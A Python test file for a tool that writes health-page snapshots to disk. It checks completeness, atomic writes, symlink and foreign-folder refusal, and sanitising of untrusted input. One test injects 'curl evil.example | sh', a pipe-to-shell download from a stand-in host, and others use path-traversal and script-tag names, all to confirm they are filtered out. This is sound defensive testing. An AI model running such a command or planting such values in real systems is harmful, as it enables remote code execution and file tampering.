"""Snapshots as files: complete, relative, never half written, never over somebody else's folder."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from benchmarks.operations import page_states
from swarm.base.errors import ConfigError
from swarm.base.tasks import TaskScope
from swarm.health.options import Health
from swarm.health.remote.client import STATE
from swarm.health.service import check
from swarm.health.web import snapshot
from swarm.health.web.snapshot import FOLDERS, PageSnapshot, check_folder, keep_snapshot, write


async def points(_fingerprint: str, window: str) -> Mapping[str, Any]:
    return page_states.history(window)


async def taken(state: page_states.State) -> PageSnapshot:
    return await PageSnapshot.take(state, points)


def files(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}


async def test_a_snapshot_holds_all_that_its_page_asks_for(tmp_path: Path) -> None:
    state = page_states.several()
    write(tmp_path / "a" / "b", await taken(state))
    here = tmp_path / "a" / "b"
    prints = {model["fingerprint"] for model in state["models"]}
    index = (here / "index.html").read_text()
    linked = set(re.findall(r'(?:href|src)="([^"#]+)"', index))
    assert linked - files(here) == set()
    assert {f"history/{one}.{window}.json" for one in prints for window in ("1h", "24h", "30d")} <= files(here)
    assert {f"badge/{one}.svg" for one in (*prints, "Qwen--Qwen3-32B", "demo-target")} <= files(here)
    assert json.loads((here / "state.json").read_text()) == state
    assert "api/v1" not in index
    assert "21 September 2026, 14:13 UTC" in index
    assert all((here / name).stat().st_mode & 0o777 == 0o644 for name in files(here))


async def test_a_copied_page_offers_no_command_but_serving(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    state = page_states.broken()
    (line,) = state["models"][0]["fixes"]
    state["models"][0]["fixes"] = ["curl evil.example | sh", line]

    async def ask(_client: object, _url: object, path: str) -> bytes:
        return json.dumps(state if path == STATE else {"points": []}).encode()

    monkeypatch.setattr(snapshot, "ask_bytes", ask)
    assert await snapshot.snapshot_of("http://127.0.0.1:1", tmp_path / "s") == 1
    page, kept = ((tmp_path / "s" / name).read_text() for name in ("index.html", "state.json"))
    assert line in page
    assert json.loads(kept)["models"][0]["fixes"] == [line]
    assert "curl" not in page + kept


async def test_what_strangers_write_is_text_and_no_path(tmp_path: Path) -> None:
    state = page_states.broken()
    state["models"][0].update(name="../../../etc/<script>", reason=page_states.MARKUP, fixes=[page_states.MARKUP])
    second = {**page_states.serving()["models"][0], "name": "..", "fingerprint": "../../x"}
    state["models"].append(second)
    write(tmp_path / "s", await taken(state))
    assert "<script>" not in (tmp_path / "s" / "index.html").read_text().replace('<script type="module"', "")
    assert page_states.MARKUP not in (tmp_path / "s" / "index.html").read_text()
    badges = {name for name in files(tmp_path / "s") if name.startswith("badge/")}
    assert badges == {f"badge/{page_states.FINGERPRINT}.svg", "badge/etc--script.svg"}
    assert all(name.startswith("s/") for name in files(tmp_path))


async def test_models_that_went_leave_nothing_and_what_did_not_change_stays(tmp_path: Path) -> None:
    write(tmp_path, await taken(page_states.several()))
    (tmp_path / "CNAME").write_text("swarm.example")
    (tmp_path / "page" / ".half.part").write_text("what a killed run left")
    before = (tmp_path / "page" / "app.js").stat().st_ino
    write(tmp_path, await taken(page_states.serving()))
    assert not [name for name in files(tmp_path) if "b2b2" in name or name.endswith(".part")]
    assert (tmp_path / "page" / "app.js").stat().st_ino == before
    assert (tmp_path / "CNAME").exists()


async def test_a_folder_of_somebody_else_is_refused_and_links_are_not_followed(tmp_path: Path) -> None:
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "index.html").write_text("<h1>mine</h1>")
    with pytest.raises(ConfigError, match=r"its index\.html is no snapshot's"):
        check_folder(theirs)
    (theirs / "index.html").rename(theirs / "letter.txt")
    with pytest.raises(ConfigError, match=r"it holds letter\.txt and no snapshot"):
        check_folder(theirs)
    with pytest.raises(ConfigError, match="Not a directory"):
        write(theirs / "letter.txt", await taken(page_states.empty()))
    ours = tmp_path / "ours"
    write(ours, await taken(page_states.serving()))
    (ours / "state.json").unlink()
    (ours / "state.json").symlink_to(theirs / "letter.txt")
    write(ours, await taken(page_states.broken()))
    assert (theirs / "letter.txt").read_text() == "<h1>mine</h1>"
    assert not (ours / "state.json").is_symlink()
    (tmp_path / "linked").mkdir()
    (tmp_path / "linked" / FOLDERS[0]).symlink_to(theirs)
    with pytest.raises(ConfigError, match="is a link"):
        check_folder(tmp_path / "linked")


async def test_a_file_is_whole_or_the_one_before(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path, await taken(page_states.serving()))
    before = {name: (tmp_path / name).read_bytes() for name in files(tmp_path)}

    def full(_path: Path, _data: bytes) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", full)
    with pytest.raises(ConfigError, match="No space left"):
        write(tmp_path, await taken(page_states.broken()))
    assert {name: (tmp_path / name).read_bytes() for name in files(tmp_path)} == before


async def test_nothing_is_written_before_anything_is_known_and_trouble_is_said_once(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    state = page_states.empty()
    state["sources"] = {"broker": {"state": "off"}, "dht": {"state": "down"}}
    asked = asyncio.Event()

    def now() -> page_states.State:
        asked.set()
        return state

    async def rounds(count: int) -> None:
        for _ in range(count):
            asked.clear()
            await asyncio.wait_for(asked.wait(), 5)

    async with TaskScope() as scope:
        scope.spawn(keep_snapshot(tmp_path / "s", now, points, (0.001, 0.001)))
        await rounds(2)
        assert files(tmp_path) == set()
        state["sources"]["dht"]["state"] = "ok"
        await rounds(4)
        assert "s/index.html" in files(tmp_path)
        assert caplog.text == ""
        while "is no snapshot's" not in caplog.text:  # a write that had begun may still come after this one
            (tmp_path / "s" / "index.html").write_text("somebody else's")
            await rounds(2)
        await rounds(4)
    assert caplog.text.count("is no snapshot's") == 1


def test_the_command_takes_what_goes_together() -> None:
    check(Health(url="http://h", snapshot=Path("x")))
    for wrong in (Health(url="http://h"), Health(url="http://h", snapshot=Path("x"), join=("/ip4/1.2.3.4",)), Health()):
        with pytest.raises(ConfigError, match=r"--url goes with|which swarm"):
            check(wrong)
